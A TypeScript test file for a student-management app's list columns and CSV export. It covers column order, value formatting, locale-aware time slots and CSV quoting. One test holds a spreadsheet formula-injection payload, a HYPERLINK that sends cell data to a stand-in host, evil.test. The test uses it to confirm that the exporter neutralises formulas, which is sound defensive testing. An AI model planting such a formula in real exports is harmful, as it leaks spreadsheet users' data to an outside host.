import { setLocale } from 'shared-i18n';
import { type StudentProfile, orDash } from '../index';
import { STUDENT_LIST_COLUMNS, studentStatusLabel } from '../people';
import { csvLine, toCsv } from '../server';
import { makeStudentProfile, makeUser } from '../factory';

const profile = makeStudentProfile();
/** Waiting for a private course, with a group without account manager and a call by no instructor. */
const sara: StudentProfile = makeStudentProfile(
  makeUser('student', { id: 15, phone_number: '+201001234567' }),
  {
    status: 'waiting',
    private_or_group: 'private',
    offer: '3 levels, 1500 "all in"',
    certificate: null,
    group: { ...profile.group!, account_manager: null, account_manager_id: null },
    call: { ...profile.call!, id: 2, months: 7, instructor: null, instructor_id: null },
  },
);

describe('the Student List columns (spec section 2)', () => {
  it('are the spec’s columns in its order', () => {
    expect(STUDENT_LIST_COLUMNS.map((column) => column.header)).toEqual([
      'Name',
      'Phone',
      'Email',
      'Gender',
      'Nationality',
      'Group',
      'Time Slot',
      'Group Level',
      'Schedule',
      'Instructor',
      'Account Manager',
      'Supervisor',
      'Call ID',
      'Call Time',
      'Call Months',
      'Course Type',
      'Status',
      'Current Level',
      'Total Levels',
      'Remaining Levels',
      'Total Amount',
      'Outstanding',
      'Indebtedness',
      'Offer',
      'Currency',
    ]);
  });

  it('spell a student’s values, taking staff from the group and else from the call', () => {
    const values = Object.fromEntries(
      STUDENT_LIST_COLUMNS.map((column) => [column.key, column.value(sara)]),
    );
    expect(values).toMatchObject({
      name: 'Sara Hassan',
      group: '#3',
      time_slot: '4 PM - 6 PM',
      group_level: 'L3',
      schedule: 'Sat/Tue',
      instructor: 'Omar Khalil',
      account_manager: 'Karim Nasser',
      call_id: '#2',
      call_months: '7',
      course_type: 'Private',
      status: 'Waiting',
      current_level: 'L3',
      total_levels: 8,
      indebtedness: 'Yes',
    });
  });

  it("write the group's time slot in the reader's language", async () => {
    const timeSlot = STUDENT_LIST_COLUMNS.find((c) => c.key === 'time_slot')!;
    await setLocale('ar', 'latn');
    try {
      expect(timeSlot.value(sara)).toBe('4 م - 6 م');
    } finally {
      await setLocale('en', 'latn');
    }
  });

  it('show a dash where a student has no group or call', () => {
    const alone = { ...sara, group: null, call: null };
    for (const key of ['group', 'time_slot', 'group_level', 'schedule', 'instructor', 'call_id']) {
      expect(STUDENT_LIST_COLUMNS.find((c) => c.key === key)!.value(alone)).toBe('-');
    }
  });

  it('label statuses and empty values', () => {
    expect(studentStatusLabel('inactive')).toBe('Inactive');
    expect(studentStatusLabel(null)).toBe('-');
    expect(orDash('  ')).toBe('-');
    expect(orDash(0)).toBe('0');
  });
});

describe('CSV', () => {
  it('quotes fields with commas, quotes or line breaks and ends lines with CRLF', () => {
    expect(csvLine(['plain', 'a,b', 'say "hi"', 'two\nlines', null, 3, true])).toBe(
      'plain,"a,b","say ""hi""","two\nlines",,3,true\r\n',
    );
  });

  it('neutralises text that a spreadsheet would run as a formula, with a leading apostrophe', () => {
    expect(
      csvLine([
        '=HYPERLINK("http://evil.test/?d="&A2,"Click")',
        '+201000000001',
        '-2+3',
        '@SUM(A1:A9)',
        '\t=1+1',
        '\r=1+1',
      ]),
    ).toBe(
      `"'=HYPERLINK(""http://evil.test/?d=""&A2,""Click"")",'+201000000001,'-2+3,'@SUM(A1:A9),'\t=1+1,"'\r=1+1"\r\n`,
    );
  });

  it('leaves other text, and numbers of its own, as they are', () => {
    expect(csvLine(['Sara = Sarah', 'a-b', 'x@y.test', -5, 0])).toBe(
      'Sara = Sarah,a-b,x@y.test,-5,0\r\n',
    );
  });

  it('writes the header, then a line per row', () => {
    expect(toCsv(['Name', 'Offer'], [['Sara', sara.offer]])).toBe(
      'Name,Offer\r\nSara,"3 levels, 1500 ""all in"""\r\n',
    );
  });
});
